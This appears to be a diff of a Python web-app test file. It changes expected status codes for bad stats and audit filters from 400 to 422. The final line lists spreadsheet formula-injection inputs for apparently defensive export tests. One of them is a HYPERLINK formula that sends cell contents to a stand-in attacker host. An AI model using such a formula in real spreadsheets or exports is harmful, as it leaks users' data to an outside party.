@@ -259,12 +259,12 @@ def test_filter_menus_list_every_user_and_topic_sorted(lead):
     assert [option.get_text() for option in topics] == ["Any", "AI", "Vision"]
 
 
-def test_bad_filters_answer_400_with_the_message(lead):
+def test_bad_filters_answer_422_with_the_message(lead):
     response = lead.get("/stats?period=custom&from=nope&to=2026-03-01")
-    assert response.status_code == 400 and "From: &#39;nope&#39; is not a date" in response.get_data(
+    assert response.status_code == 422 and "From: &#39;nope&#39; is not a date" in response.get_data(
         as_text=True
     )
-    assert lead.get("/stats.json?period=year").status_code == 400
+    assert lead.get("/stats.json?period=year").status_code == 422
     assert lead.get("/stats.json?period=year").get_json() == {
         "errors": {"period": "Period must be one of today, 7d, 30d, custom."}
     }
@@ -314,7 +314,7 @@ def test_audit_log_newest_first_filtered_and_paged(app, lead, history, monkeypat
     )
     assert len(merges.select("#audit-rows tr")) == 1
     assert lead.get("/audit?after=garbage").status_code == 400
-    assert lead.get("/audit?action=explode").status_code == 400
+    assert lead.get("/audit?action=explode").status_code == 422
 
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "=1+2", "@SUM(A1)", "+1", "-2+3", "\tx", "\rx"]
